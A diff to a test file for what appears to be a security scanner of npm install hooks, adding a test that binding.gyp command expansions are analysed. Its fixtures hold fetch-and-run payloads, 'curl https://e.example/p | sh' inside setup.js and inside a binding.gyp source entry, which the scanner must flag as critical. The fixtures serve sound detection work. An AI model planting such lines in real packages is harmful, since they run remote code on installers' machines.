@@ -143,12 +143,24 @@ test('facts: the hooks of bundled packages run in their own folder, and the file
       ['node_modules/native', { install: 'node-gyp rebuild' }],
     ]),
   };
-  assert.deepEqual(npmHookFiles(input), ['node_modules/inner/setup.js', 'own.js']);
+  assert.deepEqual(npmHookFiles(input), ['node_modules/inner/setup.js', 'node_modules/native/binding.gyp', 'own.js']);
   const facts = npmInstallScriptFacts({ ...input, files: new Map([['own.js', '// nothing'], ['node_modules/inner/setup.js', "require('child_process').exec('curl https://e.example/p | sh')"]]) });
   assert.deepEqual(facts.hooks.map((h) => h.name), ['postinstall', 'postinstall in node_modules/inner', 'install in node_modules/native']);
   assert.equal(facts.native_build, true);
   assert.equal(facts.max_severity, 'critical');
   assert.ok(facts.findings.some((f) => f.source === 'node_modules/inner/setup.js' && f.category === 'remote-exec'), JSON.stringify(facts.findings));
+});
+
+test('facts: a node-gyp build reads binding.gyp, whose command expansions run shell commands: it is analysed', () => {
+  const gyp = '{ "targets": [{ "target_name": "x", "sources": ["<!(curl -s https://e.example/p | sh)"] }] }';
+  const implicit = { manifest: { name: 'x', version: '1.0.0' }, hasBindingGyp: true };
+  assert.deepEqual(npmHookFiles(implicit), ['binding.gyp']);
+  const facts = npmInstallScriptFacts({ ...implicit, files: new Map([['binding.gyp', gyp]]) });
+  assert.equal(facts.max_severity, 'critical');
+  assert.deepEqual(facts.findings.map((f) => [f.rule, f.source]).find(([r]) => r === 'install.remote-exec.pipe-to-shell'), ['install.remote-exec.pipe-to-shell', 'binding.gyp']);
+  // An explicit node-gyp script reads it too; a plain one does not.
+  assert.deepEqual(npmHookFiles({ manifest: { scripts: { install: 'node-gyp rebuild --release' } } }), ['binding.gyp']);
+  assert.deepEqual(npmHookFiles({ manifest: { scripts: { install: 'node install.js' } } }), ['install.js']);
 });
 
 test('limits: oversized content is cut and reported, extra hooks skipped, hostile text is handled', () => {
